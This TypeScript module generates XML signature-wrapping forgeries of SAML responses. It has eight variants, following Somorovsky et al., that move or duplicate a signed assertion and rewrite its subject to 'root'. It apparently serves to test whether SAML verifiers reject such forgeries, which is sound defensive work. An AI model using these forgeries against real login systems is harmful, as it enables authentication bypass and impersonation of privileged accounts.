const ASSERTION = /<([\w-]+:)?Assertion[ >][\s\S]*<\/\1Assertion>/;
const SIGNATURE = /<([\w-]+:)?Signature[ >][\s\S]*?<\/\1Signature>/;
const STATUS_END = /<\/([\w-]+:)?Status>/;

/** The parts of a genuine response with a signed assertion, and attacks with them. */
type Taken = {
  response: string;
  good: string;
  signature: string;
  bare: string;
  forged: (id?: string) => string;
};

function taken(response: string, subject: string): Taken {
  const [good = ''] = ASSERTION.exec(response) ?? [];
  const [signature = ''] = SIGNATURE.exec(good) ?? [];
  const bare = good.replace(signature, '');
  const forged = (id = '_evil') => bare.replace(/ ID="[^"]+"/, ` ID="${id}"`).replace(subject, 'root');
  if (signature === '' || forged() === bare) throw new Error('the response holds no signed assertion');
  /** The response's own signature is removed, because it would be invalid anyway. */
  const [head = ''] = response.split(good);
  return { response: response.replace(head, head.replace(SIGNATURE, '')), good, signature, bare, forged };
}

const idOf = (xml: string): string => / ID="([^"]+)"/.exec(xml)?.[1] ?? '';
const inside = (outer: string, inner: string): string =>
  outer.replace(/<\/([\w-]+:)?Assertion>$/, (end) => inner + end);
const objectIn = (signature: string, content: string): string =>
  signature.replace(
    /<\/([\w-]+:)?Signature>$/,
    (end, prefix = '') => `<${prefix}Object>${content}</${prefix}Object>${end}`,
  );

/** Signature wrapping as classified by Somorovsky et al. (USENIX Security 2012), and similar attacks. */
const VARIANTS: Record<string, (taken: Taken) => string> = {
  'a forged assertion before the signed one': ({ response, good, forged }) =>
    response.replace(good, forged() + good),
  'a forged assertion after the signed one': ({ response, good, forged }) =>
    response.replace(good, good + forged()),
  'the signed assertion inside a forged one': ({ response, good, forged }) =>
    response.replace(good, inside(forged(), good)),
  'the signature in a forged assertion, what it signs beside': ({
    response,
    good,
    forged,
    signature,
    bare,
  }) => response.replace(good, inside(forged(), signature) + bare),
  'what is signed within the signature of a forged one': ({ response, good, forged, signature, bare }) =>
    response.replace(good, inside(forged(), objectIn(signature, bare))),
  'two assertions of one id': ({ response, good, forged }) =>
    response.replace(good, forged(idOf(good)) + good),
  'the signed assertion in extensions': ({ response, good, forged }) =>
    response
      .replace(good, forged())
      .replace(
        STATUS_END,
        (end) => `${end}<e:Extensions xmlns:e="urn:oasis:names:tc:SAML:2.0:protocol">${good}</e:Extensions>`,
      ),
  'the whole response within another one': ({ response, good, forged }) =>
    response.replace(good, forged() + response.replace(/^<\?xml[^>]*\?>\s*/, '')),
};

/** The response with the assertion's signature only, from which the forgeries are built. */
export const signedAssertionOnly = (response: string, subject: string): string =>
  taken(response, subject).response;

/** Creates a forgery from a genuine response with a signed assertion about `subject`. */
export const WRAPPINGS: readonly [title: string, forge: (response: string, subject: string) => string][] =
  Object.entries(VARIANTS).map(([title, forge]) => [
    title,
    (response, subject) => forge(taken(response, subject)),
  ]);
